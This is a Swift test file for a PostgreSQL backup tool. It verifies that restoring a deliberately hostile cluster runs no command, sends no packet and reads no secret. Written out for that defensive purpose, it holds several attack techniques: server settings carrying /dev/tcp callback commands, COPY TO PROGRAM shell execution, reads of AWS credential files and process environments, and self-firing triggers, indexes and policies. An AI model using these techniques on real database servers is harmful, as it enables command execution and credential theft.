// SPDX-License-Identifier: Apache-2.0
import Foundation
import Glibc
import TestKit
import Testing

/// Clusters that are made to get out of a trial, or into this machine.
@Suite("trial restores of hostile clusters", .serialized)
struct HostileTrialTests {
    /// Each with a command or a path of its own below `canary`, or an address at which a sinkhole listens.
    private static func settings(_ canary: String, port: Int) -> [(String, String)] {
        func command(_ name: String) -> String {
            "touch \(canary)/\(name); bash -c \"echo x > /dev/tcp/127.0.0.1/\(port)\""
        }
        return [
            ("archive_mode", "always"), ("archive_command", command("archive")), ("archive_timeout", "1s"),
            ("restore_command", command("restore")), ("archive_cleanup_command", command("cleanup")),
            ("recovery_end_command", command("end")), ("ssl", "on"),
            ("ssl_passphrase_command", command("passphrase")),
            ("ssl_passphrase_command_supports_reload", "on"), ("ssl_cert_file", "\(canary)/cert"),
            ("ssl_key_file", "\(canary)/key"), ("ssl_ca_file", "\(canary)/ca"),
            ("shared_preload_libraries", "auto_explain"), ("session_preload_libraries", "auto_explain"),
            ("dynamic_library_path", "\(canary):$libdir"), ("jit", "on"), ("jit_provider", "\(canary)/jit"),
            ("data_directory", "\(canary)/data"), ("hba_file", "\(canary)/hba"),
            ("ident_file", "\(canary)/ident"), ("external_pid_file", "\(canary)/pid"),
            ("logging_collector", "on"), ("log_directory", "\(canary)/log"), ("log_filename", "../evil.log"),
            ("log_destination", "csvlog"), ("unix_socket_directories", canary),
            ("unix_socket_permissions", "0777"), ("listen_addresses", "*"), ("port", "\(port + 1)"),
            ("primary_conninfo", "host=127.0.0.1 port=\(port) user=x"), ("primary_slot_name", "evil"),
            ("promote_trigger_file", "\(canary)/promote"), ("krb_server_keyfile", "\(canary)/keytab"),
            ("stats_temp_directory", "\(canary)/stats"), ("temp_tablespaces", "elsewhere"),
            ("bonjour", "on"), ("recovery_target_action", "shutdown"), ("hot_standby", "on"),
            ("restart_after_crash", "on"), ("autovacuum_naptime", "1s"), ("wal_receiver_timeout", "0"),
            ("archive_library", "\(canary)/archive.so"),
        ]
    }

    /// Functions that try what native code could, and say how far they came; and places from which they are called by themselves.
    private static func objects(_ canary: String, home: String, port: Int) -> String {
        """
        CREATE FUNCTION public.tries(command text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN
            EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', command); RETURN 'done';
            EXCEPTION WHEN OTHERS THEN RETURN 'refused'; END $$;
        CREATE FUNCTION public.reads(path text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN
            RETURN pg_catalog.pg_read_file(path); EXCEPTION WHEN OTHERS THEN RETURN 'refused'; END $$;
        CREATE FUNCTION public.environments() RETURNS bigint LANGUAGE sql AS $$
            SELECT count(*) FROM pg_catalog.pg_ls_dir('/proc') name WHERE name ~ '^[0-9]+$'
            AND public.reads('/proc/' || name || '/environ') LIKE '%only-for-pg_backctl%' $$;
        CREATE FUNCTION public.writes() RETURNS text LANGUAGE sql AS $$
            SELECT public.tries('touch \(canary)/written') || public.tries('touch \(home)/written') $$;
        CREATE FUNCTION public.speaks() RETURNS text LANGUAGE sql AS $$
            SELECT public.tries('bash -c "echo x > /dev/tcp/127.0.0.1/\(port)"') $$;
        CREATE FUNCTION public.springs(n int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
            PERFORM public.writes(), public.speaks(); RETURN n; END $$;
        CREATE TABLE public.trap (n int, guarded int DEFAULT public.springs(1));
        INSERT INTO public.trap SELECT n, n FROM generate_series(1, 3) n;
        CREATE INDEX sprung ON public.trap (public.springs(n));
        ALTER TABLE public.trap ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
        CREATE POLICY springs ON public.trap USING (public.springs(n) > 0);
        CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS $$ SELECT public.writes() $$;
        CREATE FUNCTION public.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN
            PERFORM public.writes(), public.speaks(); END $$;
        CREATE EVENT TRIGGER on_start ON ddl_command_start EXECUTE FUNCTION public.on_ddl();
        ALTER DATABASE postgres SET session_preload_libraries = 'auto_explain';
        ALTER ROLE postgres SET search_path = public, pg_catalog;
        """
    }

    private static func checks(home: String) -> String {
        """
          - {name: writes, database: postgres, sql: SELECT public.writes(), expect: = refusedrefused}
          - {name: speaks, database: postgres, sql: SELECT public.speaks(), expect: = refused}
          - {name: keys, database: postgres, sql: "SELECT public.reads('\(home)/.aws/credentials')", expect: = refused}
          - {name: environment, database: postgres, sql: SELECT public.environments(), expect: = 0, timeout: 2m}
        """
    }

    @Test(
        Requires.postgres(.v15, .v18), .timeLimit(.minutes(10)),
        arguments: [(PostgresCluster.Version.v15, true), (.v15, false), (.v18, true)])
    func `run no command, write no file, send no packet and read no secret`(
        version: PostgresCluster.Version, isRoot: Bool
    ) async throws {
        try await TrialWorld.with(version) { world in
            let sinkhole = try Sinkhole()
            let canary = try world.cluster.makeDirectory("canary")
            let home = world.binary.home.path
            try await Program("sh")([
                "-c", "mkdir $1/.aws && echo secret > $1/.aws/credentials && chmod 777 $2", "sh", home,
                canary,
            ])
            try await world.cluster.psql(
                Self.objects(canary, home: home, port: sinkhole.port)
                    + (version == .v18 ? Self.loginTrigger : ""))
            try Self.spoil(world, Self.settings(canary, port: sinkhole.port))
            try await world.restore.backUp("20251101T000000", ["-Ft", "-z"])
            try await Self.reset(canary)
            var binary = world.binary
            binary.environment["AWS_SECRET_ACCESS_KEY"] = "only-for-pg_backctl"
            if !isRoot { try await Self.becomeNobody(&binary, world) }
            sinkhole.forget()
            let before = try await Self.state(of: world, canary)
            let run = try await binary.run(
                world.words([
                    "--checks", try world.checks(Self.checks(home: home)), "--heapallindexed", "--json",
                ]))
            let told = try run.document(HostileTold.self)
            #expect(run.status == 0 && told.level == "exercised", "\(run)")
            #expect(told.neutralised.count >= 25 && told.neutralised.contains("archive_command"))
            #expect(told.isolation.contains("no packet was sent or received"), "\(told.isolation)")
            #expect(!told.isolation.contains { $0.hasPrefix("weak") })
            #expect(sinkhole.connections == 0)
            #expect(try await Self.state(of: world, canary) == before)
            #expect(try await world.leavings() == [])
        }
    }

    /// The settings go behind all others, where no running server reads them any more.
    private static func spoil(_ world: TrialWorld, _ settings: [(String, String)]) throws {
        let lines =
            settings.map { "\($0) = '\($1.replacing("'", with: "''"))'" } + [
                "include_if_exists '/etc/evil.conf'"
            ]
        for name in ["postgresql.conf", "postgresql.auto.conf"] {
            let file = try FileHandle(forWritingTo: URL(filePath: "\(world.cluster.dataDirectory)/\(name)"))
            try file.seekToEnd()
            // ALTER SYSTEM has no includes.
            let kept = name == "postgresql.conf" ? lines : Array(lines.dropLast())
            try file.write(contentsOf: Data((kept.joined(separator: "\n") + "\n").utf8))
            try file.close()
        }
    }

    private static let loginTrigger = """

        CREATE FUNCTION public.on_login() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN
            PERFORM public.writes(), public.speaks(); END $$;
        CREATE EVENT TRIGGER on_login ON login EXECUTE FUNCTION public.on_login();
        """

    /// What making it has done on its own server.
    private static func reset(_ canary: String) async throws {
        try await Program("sh")(["-c", "rm -rf \"$1\"/* && echo kept > \"$1\"/kept", "sh", canary])
    }

    /// What stands in the canary's directory, and the sums of all that production keeps in its tablespace.
    private static func state(of world: TrialWorld, _ canary: String) async throws -> String {
        try await Program("sh")([
            "-c", "find \"$1\" | sort; cd \"$2\" && find . -type f | sort | xargs sha256sum", "sh", canary,
            canary + "/../space",
        ])
    }

    private static func becomeNobody(_ binary: inout Binary, _ world: TrialWorld) async throws {
        try await Program("sh")([
            "-c", "chown -R 65534:65534 \"$@\"", "sh", binary.home.path, world.scratch,
        ])
        try await Program("sh")([
            "-c",
            "chmod -R a+rX \"$1\"; p=$1; while [ \"$p\" != / ]; do chmod a+x \"$p\"; p=$(dirname \"$p\"); done",
            "sh", world.restore.store,
        ])
        binary.environment["XDG_STATE_HOME"] = "\(binary.home.path)/state"
        binary.wrapper = [
            "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all",
        ]
    }
}

private struct HostileTold: Decodable {
    var level: String?
    var neutralised, isolation: [String]
}

/// Listens on the loopback of this machine, and counts who comes.
final class Sinkhole: @unchecked Sendable {
    // The descriptor is only read, the count guarded by the lock.
    private let socket: Int32
    private let lock = NSLock()
    private var count = 0
    let port: Int

    init() throws {
        let socket = Glibc.socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        self.socket = socket
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = UInt32(0x7f00_0001).bigEndian
        var size = socklen_t(MemoryLayout<sockaddr_in>.size)
        let listening = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                bind(socket, $0, size) == 0 && listen(socket, 16) == 0 && getsockname(socket, $0, &size) == 0
            }
        }
        guard listening else { throw CocoaError(.fileReadUnknown) }
        port = Int(UInt16(bigEndian: address.sin_port))
        let owner = Unowned(self)
        Thread.detachNewThread {
            while true {
                let guest = accept(socket, nil, nil)
                guard guest >= 0 else { return }
                close(guest)
                owner.sinkhole?.note()
            }
        }
    }

    deinit { shutdown(socket, Int32(SHUT_RDWR)); close(socket) }

    var connections: Int { lock.withLock { count } }
    func forget() { lock.withLock { count = 0 } }
    private func note() { lock.withLock { count += 1 } }

    private final class Unowned: @unchecked Sendable {
        // Only ever set before the thread begins.
        weak var sinkhole: Sinkhole?
        init(_ sinkhole: Sinkhole) { self.sinkhole = sinkhole }
    }
}
